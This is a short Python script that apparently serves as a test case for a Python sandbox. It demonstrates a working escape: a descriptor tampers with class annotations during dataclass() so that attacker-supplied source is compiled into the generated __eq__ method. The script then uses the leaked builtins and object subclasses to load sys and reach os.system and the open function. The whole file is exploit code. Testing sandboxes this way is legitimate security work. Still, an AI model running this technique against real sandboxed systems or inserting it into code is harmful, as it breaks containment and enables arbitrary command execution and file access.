# technique: a descriptor's __get__ runs inside dataclass() and swaps an annotation after the name check: the generated __eq__ compiled attacker source
# expect: any
import dataclasses
EVIL = "a,self.a.append((__builtins__, ().__class__.__base__.__subclasses__(), dataclasses.__dict__, type(__builtins__)))"
class D:
    def __get__(self, inst, owner):
        ann = owner.__annotations__
        if "b" in ann:
            del ann["b"]
            ann[EVIL] = int
        return 0
class C:
    "doc"
    a: int = D()
    b: int = 0
dataclasses.dataclass(init=False, repr=False)(C)
x = C(); y = C()
x.a = []; y.a = []
x == y
B, subs, dd, tb = x.a[0]
print(tb, len(subs), type(dd), list(dd)[:5])
print([c for c in subs if c.__name__ in ("_wrap_close", "BuiltinImporter", "FileLoader")])
BI = [c for c in subs if c.__name__ == "BuiltinImporter"][0]
try:
    s = BI.load_module("sys")
    print(type(s), s.modules is not None, len(s.modules))
    print(s.modules["os"].system)
except BaseException as e:
    print("load_module:", type(e), e)
print(B.get("open"))
